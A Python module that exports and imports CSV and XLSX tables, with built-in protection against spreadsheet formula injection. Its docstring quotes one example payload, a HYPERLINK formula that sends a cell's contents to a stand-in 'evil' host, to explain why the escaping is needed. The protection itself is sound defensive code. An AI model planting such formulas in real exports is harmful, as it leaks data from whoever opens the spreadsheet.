"""Tables that people open in a spreadsheet: the one CSV writer (and reader) of every export and import,
and the XLSX sheet beside it.

A spreadsheet program reads a CSV cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as
a formula (OWASP, "CSV injection"): a partner named `=HYPERLINK("http://evil/?"&A1;"open")` would run in
the office's spreadsheet. Every such text cell is written with a leading apostrophe, which spreadsheets
take as "this is text" and do not show. Numbers (int, Decimal, float values) stay numbers, so a negative
quantity still sums and HXL's numeric columns still add up; only text is ever prefixed.

The reader takes that apostrophe off again, so an export imports back as it was. The rule is reversible:
text that already begins with apostrophes before a formula character gets one more, and reading removes
exactly one.

XLSX cells are typed, so text is stored as text (never as a formula) and needs no apostrophe; characters
an XLSX file cannot hold (control characters other than tab and line breaks) are left out.
"""

import csv
import io
import re
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import TYPE_CHECKING, Any, TypeVar

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

    _DictWriter = csv.DictWriter[str]
    _DictReader = csv.DictReader[str]
else:  # not subscriptable at run time before Python 3.12
    _DictWriter, _DictReader = csv.DictWriter, csv.DictReader

T = TypeVar("T")

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"'*[=+\-@\t\r]")  # a formula character, after any apostrophes
_UNESCAPE = re.compile(r"'+[=+\-@\t\r]")


def cell(value: T) -> T | str:
    """A value as a CSV cell: text a spreadsheet would run as a formula gets a leading apostrophe;
    numbers, empty cells and other text are unchanged."""
    if isinstance(value, str) and _ESCAPED.match(value):
        return "'" + value
    return value


def uncell(value: T) -> T | str:
    """The text a CSV cell written by `cell` stood for (one leading apostrophe before a formula
    character removed); anything else unchanged."""
    if isinstance(value, str) and _UNESCAPE.match(value):
        return value[1:]
    return value


class Writer:
    """csv.writer whose every row goes through `cell`."""

    def __init__(self, out: "SupportsWrite[str]", **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(_DictWriter):
    """csv.DictWriter whose every row goes through `cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


class DictReader(_DictReader):
    """csv.DictReader that undoes `cell` in every value."""

    def __next__(self) -> dict[str, Any]:
        row = super().__next__()
        return {key: uncell(value) for key, value in row.items()}


def read(text: str) -> list[list[str]]:
    """Every row of a CSV text, each value through `uncell`."""
    return [[uncell(value) for value in row] for row in csv.reader(io.StringIO(text, newline=""))]


def _xlsx_value(value: object) -> object:
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def xlsx(rows: Iterable[Iterable[Any]]) -> bytes:
    """An XLSX workbook of one sheet with these rows: numbers as numbers, text always as text."""
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)  # a new workbook's one sheet
    for row in rows:
        sheet.append([_xlsx_value(value) for value in row])
    for cells in sheet.iter_rows():
        for one in cells:
            if one.data_type == "f":  # openpyxl takes any text starting with = for a formula
                one.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
